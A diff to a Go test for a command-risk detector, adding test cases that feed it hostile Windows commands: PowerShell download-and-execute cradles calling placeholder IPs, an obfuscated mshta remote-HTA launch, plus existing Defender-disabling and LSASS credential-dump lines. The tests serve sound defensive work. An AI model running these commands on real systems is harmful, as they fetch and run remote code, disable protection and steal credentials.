@@ -68,6 +68,10 @@ func TestJudgeRisky(t *testing.T) {
 		{`start \\198.51.100.7@80\DavWWWRoot\invoice.exe`, "exec-remote", verdict.High},
 		{`powershell -ep bypass -c "Set-MpPreference -DisableRealtimeMonitoring $true"`, "defender-tamper", verdict.Critical},
 		{`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, "credential-dump", verdict.Critical},
+		{`Start-Process powershell -ArgumentList '-w hidden -c "iwr http://203.0.113.9/a | iex"'`, "download-cradle", verdict.Critical},
+		{`Set-Alias -Name go -Value Invoke-Expression; go (irm http://203.0.113.9/a)`, "download-cradle", verdict.Critical},
+		{`iwr http://203.0.113.9/a -UseBasicParsing | Select-Object -ExpandProperty Content | iex`, "download-cradle", verdict.Critical},
+		{Deobfuscate(LangBatch, `cmd /v:on /c "set a=mshta&&set b= http://198.51.100.7/a.hta&&!a!!b!"`), "lolbin-mshta-remote", verdict.Critical},
 	} {
 		fs := Judge("t", tc.cmd)
 		found := false
